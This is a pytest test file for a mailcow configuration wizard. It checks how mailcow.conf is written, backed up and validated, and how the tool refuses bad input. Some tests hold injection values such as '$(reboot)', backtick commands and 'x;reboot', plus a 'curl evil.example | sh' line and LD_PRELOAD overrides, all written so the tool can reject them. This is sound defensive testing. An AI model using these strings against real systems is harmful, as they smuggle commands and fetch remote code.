"""Planning and writing mailcow.conf, and `mailcow-wizard generate` on top of it (no Compose here)."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest
from dotenv import dotenv_values

from mailcow_wizard.cli import main
from mailcow_wizard.conf import write as conf_write
from mailcow_wizard.conf.document import ConfDocument
from mailcow_wizard.conf.recommend import GIB, recommend
from mailcow_wizard.conf.write import ConfError, plan_conf, write_conf
from mailcow_wizard.fsio import backup_name
from mailcow_wizard.host import Host
from mailcow_wizard.probes.resources import MemInfo
from mailcow_wizard.probes.timezone import parse_timezone_file, probe_timezone, zone_from_link
from tests.conftest import MAILCOW_FIXTURES


def meminfo(total_gib: float, swap_gib: float = 1.0) -> str:
    total, swap = int(total_gib * 1024 * 1024), int(swap_gib * 1024 * 1024)
    return (f"MemTotal: {total} kB\nMemFree: {total // 2} kB\nMemAvailable: {total // 2} kB\n"
            f"SwapTotal: {swap} kB\nSwapFree: {swap} kB\n")


@pytest.fixture(autouse=True)
def _no_compose(monkeypatch: pytest.MonkeyPatch) -> None:
    """Unit tests never run the machine's Compose (tests/system does)."""
    monkeypatch.setattr(conf_write, "find_compose", lambda *a, **k: None)


@pytest.fixture
def checkout(tmp_path: Path):
    def make(generation: str = "current", conf: str | None = None) -> Path:
        d = tmp_path / f"mailcow-{generation}"
        d.mkdir(exist_ok=True)
        stand_in = MAILCOW_FIXTURES / generation
        (d / "docker-compose.yml").write_bytes((stand_in / "docker-compose.yml").read_bytes())
        if conf is not None:
            (d / "mailcow.conf").write_bytes((MAILCOW_FIXTURES / conf / "mailcow.conf").read_bytes())
        return d
    return make


@pytest.fixture
def host(make_root) -> Host:
    return make_root({"/proc/meminfo": meminfo(8), "/etc/timezone": "Europe/Berlin\n"})


def plan(d: Path, host: Host, **kw):
    kw.setdefault("local", None)
    kw.setdefault("compose", None)
    return plan_conf(d, host, **kw)


# -- new files ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("generation", ["current", "2020"])
def test_new_file_complete_commented_and_private(checkout, host: Host, generation: str) -> None:
    d = checkout(generation)
    p = plan(d, host, answers={"MAILCOW_HOSTNAME": "mail.example.org"})
    assert p.generation == generation and p.ok, p.errors
    result = write_conf(p)
    text = (d / "mailcow.conf").read_text()
    values = dict(dotenv_values(d / "mailcow.conf"))
    assert values == p.values
    assert set(values) == {k.name for k in p.schema.required}
    assert values["TZ"] == "Europe/Berlin" and values["MAILCOW_HOSTNAME"] == "mail.example.org"
    for key in ("DBPASS", "DBROOT") + (("REDISPASS",) if generation == "current" else ()):
        assert len(values[key]) == 28 and values[key].isalnum()
    if generation == "current":
        assert len(values["SOGO_URL_ENCRYPTION_KEY"]) == 16
        assert values["HTTP_BIND"] == ""
    else:
        assert values["HTTP_BIND"] == "0.0.0.0" and "SKIP_SOLR" in values
    # Each key has our comment above it, and the order is the schema's.
    lines = text.splitlines()
    assert lines[lines.index("SMTP_PORT=25") - 1].startswith("# ")
    assert [k for k in values] == [k.name for k in p.schema.required]
    assert stat.S_IMODE(os.stat(d / "mailcow.conf").st_mode) == 0o600
    assert os.readlink(d / ".env") == "mailcow.conf" and result.link_created
    assert result.backup is None


def test_secrets_are_fresh_each_new_file(checkout, host: Host) -> None:
    a = plan(checkout("current"), host, answers={"MAILCOW_HOSTNAME": "mail.example.org"})
    b = plan(checkout("current"), host, answers={"MAILCOW_HOSTNAME": "mail.example.org"})
    assert a.values["DBPASS"] != b.values["DBPASS"]


def test_missing_hostname_and_timezone_are_named(checkout, make_root) -> None:
    bare = make_root({"/proc/meminfo": meminfo(8)})
    p = plan(checkout("current"), bare)
    assert {i.key for i in p.errors} == {"MAILCOW_HOSTNAME", "TZ"}


# -- existing files ------------------------------------------------------------------------------------

@pytest.mark.parametrize("generation", ["current", "2020"])
def test_set_smtp_port_in_mailcows_example_changes_exactly_that_line(checkout, host: Host,
                                                                      generation: str) -> None:
    d = checkout(generation, conf=generation)
    old = (d / "mailcow.conf").read_bytes()
    answers = {"SMTP_PORT": "127.0.0.1:2525"}
    if generation == "current":
        answers["DOCKER_COMPOSE_VERSION"] = "native"  # the example's own value; no Compose probe here
    p = plan(d, host, answers=answers)
    assert p.ok, p.errors
    assert p.changed_keys == ["SMTP_PORT"]
    result = write_conf(p)
    new = (d / "mailcow.conf").read_bytes()
    assert new == old.replace(b"\nSMTP_PORT=25\n", b"\nSMTP_PORT=127.0.0.1:2525\n")
    assert result.backup is not None and result.backup.read_bytes() == old
    assert result.backup.name.startswith("mailcow.conf.bak-")
    assert stat.S_IMODE(os.stat(result.backup).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(d / "mailcow.conf").st_mode) == 0o600


def test_existing_secrets_unknown_keys_and_comments_are_kept(checkout, host: Host) -> None:
    d = checkout("current")
    (d / "mailcow.conf").write_text("# mine\nMAILCOW_HOSTNAME=mail.example.org\nTZ=UTC\nDBPASS=" + "a" * 28
                                    + "\nMY_OWN=thing\n")
    p = plan(d, host)
    assert p.ok, p.errors
    write_conf(p)
    text = (d / "mailcow.conf").read_text()
    assert text.startswith("# mine\nMAILCOW_HOSTNAME=mail.example.org\nTZ=UTC\nDBPASS=" + "a" * 28
                           + "\nMY_OWN=thing\n\n# ")
    values = dict(dotenv_values(d / "mailcow.conf"))
    assert values["DBPASS"] == "a" * 28 and values["MY_OWN"] == "thing"
    assert len(values["DBROOT"]) == 28 and "SKIP_FTS" in values
    # Appended keys carry our comment.
    lines = text.splitlines()
    assert lines[lines.index("SMTP_PORT=25") - 1].startswith("# ")
    # A second run changes nothing and makes no backup.
    again = plan(d, host, answers={"DOCKER_COMPOSE_VERSION": values["DOCKER_COMPOSE_VERSION"]})
    assert not again.changed
    assert write_conf(again).backup is None


@pytest.mark.parametrize("key,value", [
    ("MAILCOW_HOSTNAME", "mail.example.org$(reboot)"), ("MAILCOW_HOSTNAME", "mail.example.org`id`"),
    ("MAILCOW_HOSTNAME", "mail.example.org\nX=1"), ("MAILCOW_HOSTNAME", "mаil.example.org"),
    ("MAILCOW_HOSTNAME", "a" * 300), ("TZ", "Europe/Berlin'"), ("HTTP_PORT", "127.0.0.1:80"),
    ("HTTP_PORT", "8081"), ("IMAP_PORT", "25"), ("SMTP_PORT", "25 # x"), ("SKIP_CLAMD", "Y"),
    ("DBPASS", "pass word"), ("SOME_KEY", "x;reboot"), ("SOME_KEY", "a\"b"),
])
def test_hostile_values_leave_the_file_untouched(checkout, host: Host, key: str, value: str) -> None:
    d = checkout("current", conf="current")
    before = (d / "mailcow.conf").read_bytes()
    p = plan(d, host, answers={key: value})
    assert key in {i.key for i in p.errors}
    with pytest.raises(ConfError):
        write_conf(p)
    assert (d / "mailcow.conf").read_bytes() == before
    assert sorted(os.listdir(d)) == ["docker-compose.yml", "mailcow.conf"]


def test_bind_address_not_on_this_host_is_an_error_when_live(checkout, host: Host) -> None:
    d = checkout("current", conf="current")
    p = plan(d, host, answers={"SMTP_PORT": "198.51.100.7:25"}, local=frozenset({"127.0.0.1"}),
             strict_addresses=True)
    assert [i.key for i in p.errors] == ["SMTP_PORT"]
    p = plan(d, host, answers={"SMTP_PORT": "198.51.100.7:25"})  # --root: unknown addresses
    assert p.ok and [i.key for i in p.warnings if i.rule == "bind_address"] == ["SMTP_PORT"]


def test_symlink_planted_at_mailcow_conf_is_refused(checkout, host: Host, tmp_path: Path) -> None:
    d = checkout("current")
    target = tmp_path / "elsewhere"
    target.write_text("precious\n")
    os.symlink(target, d / "mailcow.conf")
    p = plan(d, host, answers={"MAILCOW_HOSTNAME": "mail.example.org"})
    assert [i.rule for i in p.errors] == ["symlink"]
    with pytest.raises(ConfError, match="symbolic link"):
        write_conf(p)
    assert target.read_text() == "precious\n" and os.path.islink(d / "mailcow.conf")


def test_file_changed_after_planning_is_not_overwritten(checkout, host: Host) -> None:
    d = checkout("current", conf="current")
    p = plan(d, host, answers={"SMTP_PORT": "2525"})
    (d / "mailcow.conf").write_text("MAILCOW_HOSTNAME=changed.example.org\n")
    with pytest.raises(ConfError, match="changed since"):
        write_conf(p)
    assert (d / "mailcow.conf").read_text() == "MAILCOW_HOSTNAME=changed.example.org\n"


def test_broken_lines_in_an_existing_file_are_errors(checkout, host: Host) -> None:
    d = checkout("current", conf="current")
    with open(d / "mailcow.conf", "a") as fh:
        fh.write("curl evil.example | sh\nODD= value\n")
    p = plan(d, host)
    msgs = [i.message for i in p.errors]
    assert any("bash would run it as a command" in m for m in msgs)
    assert any(m.startswith("ODD") for m in msgs)


def test_existing_env_file_is_left_alone(checkout, host: Host) -> None:
    d = checkout("current")
    (d / ".env").write_text("OTHER=1\n")
    result = write_conf(plan(d, host, answers={"MAILCOW_HOSTNAME": "mail.example.org"}))
    assert not result.link_created and (d / ".env").read_text() == "OTHER=1\n"


def test_backup_names_never_collide(tmp_path: Path) -> None:
    conf = tmp_path / "mailcow.conf"
    first = backup_name(conf, now=0)
    first.write_text("x")
    second = backup_name(conf, now=0)
    assert second.name == first.name + "-1"
    second.write_text("y")
    assert backup_name(conf, now=0).name == first.name + "-2"


def test_stale_temp_of_a_dead_writer_is_removed(checkout, host: Host) -> None:
    d = checkout("current")
    stale = d / ".mailcow.conf.tmp-999999999-abcd"
    stale.write_text("half")
    write_conf(plan(d, host, answers={"MAILCOW_HOSTNAME": "mail.example.org"}))
    assert not stale.exists()


def test_diff_hides_secrets_unless_asked(checkout, host: Host) -> None:
    p = plan(checkout("current"), host, answers={"MAILCOW_HOSTNAME": "mail.example.org"})
    assert "+DBPASS=<hidden>" in p.diff()
    assert f"+DBPASS={p.values['DBPASS']}" in p.diff(show_secrets=True)


# -- recommendations -------------------------------------------------------------------------------

def mem(total_gib: float, swap_gib: float = 1.0) -> MemInfo:
    return MemInfo(int(total_gib * GIB), int(total_gib * GIB) // 2, int(swap_gib * GIB), int(swap_gib * GIB))


def test_recommendations_current() -> None:
    assert {(r.key, r.forced) for r in recommend(mem(2.4), "current")} == {("SKIP_CLAMD", False),
                                                                        ("SKIP_FTS", False)}
    assert recommend(mem(4), "current") == []
    # Without swap the budget is smaller: 2.8 GiB with no swap counts as 2.3 GiB.
    recs = recommend(mem(2.8, swap_gib=0), "current")
    assert {r.key for r in recs} == {"SKIP_CLAMD", "SKIP_FTS"}
    assert all("no swap" in r.reason for r in recs)
    assert recommend(mem(2.8), "current") == []


def test_recommendations_2020_solr_forced_at_2_gib() -> None:
    recs = {r.key: r for r in recommend(mem(2.0), "2020")}
    assert recs["SKIP_SOLR"].forced and "forced" in recs["SKIP_SOLR"].reason
    recs = {r.key: r for r in recommend(mem(3.0), "2020")}
    assert not recs["SKIP_SOLR"].forced and "3.5 GiB" in recs["SKIP_SOLR"].reason
    assert "SKIP_CLAMD" not in recs
    assert recommend(mem(4), "2020") == []


def test_forced_applies_without_consent_recommended_only_with(checkout, make_root) -> None:
    small = make_root({"/proc/meminfo": meminfo(1.9), "/etc/timezone": "UTC\n"})
    p = plan(checkout("2020"), small, answers={"MAILCOW_HOSTNAME": "mail.example.org"})
    assert p.values["SKIP_SOLR"] == "y" and p.values["SKIP_CLAMD"] == "n" and p.applied == ["SKIP_SOLR"]
    p = plan(checkout("2020"), small, answers={"MAILCOW_HOSTNAME": "mail.example.org"},
             accept_recommendations=True)
    assert p.values["SKIP_CLAMD"] == "y"
    p = plan(checkout("2020"), small, answers={"MAILCOW_HOSTNAME": "mail.example.org", "SKIP_SOLR": "n"})
    assert p.values["SKIP_SOLR"] == "n" and any(i.key == "SKIP_SOLR" for i in p.warnings)


# -- time zone probe ------------------------------------------------------------------------------

def test_timezone_probe(make_root) -> None:
    assert parse_timezone_file("# c\nEurope/Paris\n") == "Europe/Paris"
    assert zone_from_link("/usr/share/zoneinfo/America/New_York") == "America/New_York"
    assert zone_from_link("../usr/share/zoneinfo/posix/Asia/Tokyo") == "Asia/Tokyo"
    host = make_root({"/etc/timezone": "Europe/Vienna\n"})
    assert probe_timezone(host) == "Europe/Vienna"


def test_timezone_probe_falls_back_to_localtime_link(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    os.symlink("/usr/share/zoneinfo/Asia/Kolkata", tmp_path / "etc" / "localtime")
    assert probe_timezone(Host(tmp_path)) == "Asia/Kolkata"
    (tmp_path / "etc" / "timezone").write_text("\n")
    assert probe_timezone(Host(tmp_path)) == "Asia/Kolkata"
    assert probe_timezone(Host(tmp_path / "etc")) is None


# -- the generate command ----------------------------------------------------------------------------

def gen(d: Path, root: Path, *args: str) -> int:
    return main(["generate", "--mailcow-dir", str(d), "--root", str(root), *args])


@pytest.fixture
def root(host: Host) -> Path:
    return host.root


def test_generate_writes_and_reports(checkout, root: Path, capsys) -> None:
    d = checkout("current")
    assert gen(d, root, "--hostname", "mail.example.org", "--set", "SMTP_PORT=127.0.0.1:2525") == 0
    values = dict(dotenv_values(d / "mailcow.conf"))
    assert values["SMTP_PORT"] == "127.0.0.1:2525" and values["TZ"] == "Europe/Berlin"
    out = capsys.readouterr()
    assert "wrote" in out.out and "current" in out.err


def test_generate_reads_environment(checkout, root: Path, monkeypatch) -> None:
    monkeypatch.setenv("MAILCOW_HOSTNAME", "mx.example.net")
    monkeypatch.setenv("MAILCOW_TZ", "Asia/Tokyo")
    d = checkout("2020")
    assert gen(d, root) == 0
    values = dict(dotenv_values(d / "mailcow.conf"))
    assert values["MAILCOW_HOSTNAME"] == "mx.example.net" and values["TZ"] == "Asia/Tokyo"
    assert "SOLR_PORT" in values


def test_generate_profile_override(checkout, root: Path) -> None:
    d = checkout("current")
    assert gen(d, root, "--hostname", "mail.example.org", "--profile", "2020") == 0
    assert "SKIP_SOLR" in dict(dotenv_values(d / "mailcow.conf"))


def test_generate_names_every_bad_key_and_writes_nothing(checkout, root: Path, capsys) -> None:
    d = checkout("current", conf="current")
    before = (d / "mailcow.conf").read_bytes()
    rc = gen(d, root, "--hostname", "mail.example.org$(reboot)", "--timezone", "Nowhere/Land",
             "--set", "HTTP_PORT=1.2.3.4:80", "--set", "SKIP_CLAMD=Y")
    assert rc == 2
    err = capsys.readouterr().err
    for key in ("MAILCOW_HOSTNAME", "TZ", "HTTP_PORT", "SKIP_CLAMD"):
        assert key in err
    assert "HTTP_BIND" in err and "Traceback" not in err
    assert (d / "mailcow.conf").read_bytes() == before
    assert sorted(os.listdir(d)) == ["docker-compose.yml", "mailcow.conf"]


def test_generate_dry_run_prints_diff_and_writes_nothing(checkout, root: Path, capsys) -> None:
    d = checkout("current", conf="current")
    before = (d / "mailcow.conf").read_bytes()
    assert main(["--dry-run", "generate", "--mailcow-dir", str(d), "--root", str(root),
                 "--set", "SMTP_PORT=2525", "--set", "DOCKER_COMPOSE_VERSION=native"]) == 0
    out = capsys.readouterr().out
    assert "-SMTP_PORT=25\n+SMTP_PORT=2525\n" in out and out.startswith("---")
    assert (d / "mailcow.conf").read_bytes() == before
    assert gen(d, root, "--set", "SMTP_PORT=2526", "--dry-run") == 0
    assert (d / "mailcow.conf").read_bytes() == before and not (d / ".env").exists()


def test_generate_usage_errors(tmp_path: Path, root: Path, capsys) -> None:
    assert gen(tmp_path / "nope", root, "--hostname", "mail.example.org") == 2
    assert "no such directory" in capsys.readouterr().err
    assert gen(tmp_path, root, "--hostname", "mail.example.org", "--set", "NOEQUALS") == 2
    assert "KEY=VALUE" in capsys.readouterr().err
    assert gen(tmp_path, root, "--hostname", "mail.example.org", "--set", "1BAD=x") == 2


def test_generate_recommendations_need_consent(checkout, make_root, capsys) -> None:
    small = make_root({"/proc/meminfo": meminfo(2, swap_gib=0), "/etc/timezone": "UTC\n"})
    d = checkout("current")
    assert gen(d, small.root, "--hostname", "mail.example.org", "--dry-run") == 0
    err = capsys.readouterr().err
    assert "SKIP_CLAMD=y" in err and "--accept-recommendations" in err and "no swap" in err
    assert gen(d, small.root, "--hostname", "mail.example.org", "--accept-recommendations") == 0
    values = ConfDocument.parse((d / "mailcow.conf").read_bytes()).values()
    assert values["SKIP_CLAMD"] == "y" and values["SKIP_FTS"] == "y"


def test_generate_unwritable_directory_is_a_clear_exit_2(checkout, root: Path, monkeypatch, capsys) -> None:
    d = checkout("current", conf="current")
    before = (d / "mailcow.conf").read_bytes()
    real_access = os.access
    monkeypatch.setattr(os, "access", lambda p, mode: False if Path(p) == d else real_access(p, mode))
    assert gen(d, root, "--set", "SMTP_PORT=2525") == 2
    err = capsys.readouterr().err
    assert f"cannot write in {d}: permission denied" in err and "Traceback" not in err
    assert (d / "mailcow.conf").read_bytes() == before


def test_write_permission_error_becomes_conf_error(checkout, host: Host, monkeypatch) -> None:
    d = checkout("current", conf="current")
    before = (d / "mailcow.conf").read_bytes()
    p = plan(d, host, answers={"SMTP_PORT": "2525"})

    def denied(*_a, **_k):
        raise PermissionError(13, "Permission denied", str(d))

    monkeypatch.setattr(conf_write.fsio, "_new_temp", denied)
    with pytest.raises(ConfError, match="permission denied"):
        write_conf(p)
    assert (d / "mailcow.conf").read_bytes() == before


# -- found in review: shell names, precedence, the default directory under --root, odd files -------

@pytest.mark.parametrize("key", ["PATH", "IFS", "BASH_ENV", "LD_PRELOAD", "SHELLOPTS", "DOCKER_HOST"])
def test_generate_refuses_names_bash_or_docker_act_on(checkout, root: Path, capsys, key: str) -> None:
    d = checkout("current")
    assert gen(d, root, "--hostname", "mail.example.org", "--set", f"{key}=/tmp/evil") == 2
    assert f"{key}: not a mailcow setting" in capsys.readouterr().err
    assert not (d / "mailcow.conf").exists()


def test_set_and_the_environment_must_agree(checkout, root: Path, monkeypatch, capsys) -> None:
    monkeypatch.setenv("MAILCOW_HOSTNAME", "env.example.org")
    monkeypatch.setenv("MAILCOW_TZ", "Europe/Paris")
    d = checkout("current")
    assert gen(d, root, "--set", "MAILCOW_HOSTNAME=set.example.org", "--set", "TZ=Europe/Paris") == 2
    err = capsys.readouterr().err
    assert "--set MAILCOW_HOSTNAME 'set.example.org' and $MAILCOW_HOSTNAME 'env.example.org'" in err
    assert not (d / "mailcow.conf").exists()
    monkeypatch.setenv("MAILCOW_HOSTNAME", "set.example.org")  # the same value twice is one answer
    assert gen(d, root, "--set", "MAILCOW_HOSTNAME=set.example.org", "--set", "TZ=Europe/Paris") == 0
    values = dict(dotenv_values(d / "mailcow.conf"))
    assert values["MAILCOW_HOSTNAME"] == "set.example.org" and values["TZ"] == "Europe/Paris"


def test_default_mailcow_dir_lies_under_root(tmp_path: Path) -> None:
    from mailcow_wizard.commands.options import make_context
    from mailcow_wizard.context import default_mailcow_dir

    assert default_mailcow_dir(root=str(tmp_path)) == tmp_path / "opt" / "mailcow-dockerized"
    assert make_context(str(tmp_path)).mailcow_dir == tmp_path / "opt" / "mailcow-dockerized"


def test_plan_under_root_runs_no_compose(checkout, root: Path, monkeypatch) -> None:
    import mailcow_wizard.conf.write as write_mod

    monkeypatch.setattr(write_mod, "find_compose", lambda: pytest.fail("Compose looked up under --root"))
    answers = {"MAILCOW_HOSTNAME": "mail.example.org"}
    plan = write_mod.plan_conf(checkout("current"), Host(root), answers=answers)
    assert plan.compose is None


def test_fifo_at_mailcow_conf_does_not_hang(tmp_path: Path) -> None:
    from mailcow_wizard.conf import read_existing_conf
    from mailcow_wizard.context import looks_like_mailcow

    os.mkfifo(tmp_path / "mailcow.conf")
    os.mkfifo(tmp_path / "docker-compose.yml")
    assert read_existing_conf(tmp_path / "mailcow.conf") == {}
    assert looks_like_mailcow(tmp_path) is False


def test_symlinked_conf_is_named_alone(checkout, root: Path, tmp_path: Path, capsys) -> None:
    d = checkout("current")
    real = tmp_path / "elsewhere.conf"
    real.write_text("MAILCOW_HOSTNAME=mail.example.org\n")
    os.symlink(real, d / "mailcow.conf")
    assert gen(d, root, "--set", "SMTP_PORT=2525") == 2
    err = capsys.readouterr().err
    assert "symbolic link" in err and "is missing" not in err
    assert real.read_text() == "MAILCOW_HOSTNAME=mail.example.org\n"
